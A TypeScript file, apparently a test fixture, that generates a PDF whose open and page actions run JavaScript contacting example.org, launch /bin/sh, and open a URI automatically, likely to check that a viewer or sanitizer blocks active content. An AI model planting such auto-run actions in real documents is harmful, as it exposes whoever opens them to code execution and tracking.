const PAGE_TEXT = 'BT /F1 12 Tf 72 720 Td (Une page qui voudrait agir, et qui se laisse lire.) Tj ET';

/** A PDF that runs JavaScript, starts a program and calls home as soon as it is opened, if a reader lets it. */
export function activePdf(): string {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 7 0 R >>
        /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /AA << /O 8 0 R >>
        /Resources << /Font << /F1 5 0 R >> >>
        /Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 400 740] /A 6 0 R >>] >>`,
    `<< /Length ${PAGE_TEXT.length} >>\nstream\n${PAGE_TEXT}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /S /JavaScript /JS (app.launchURL("https://example.org/js"); fetch("https://example.org/fetch")) >>',
    '<< /S /Launch /F (/bin/sh) >>',
    '<< /S /URI /URI (https://example.org/opened) >>',
  ]);
}

/** A PDF of these objects, the first of which is its catalog (ISO 32000-1, 7.5). */
function pdfOf(objects: readonly string[]): string {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}`;
  return `${text}${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
}
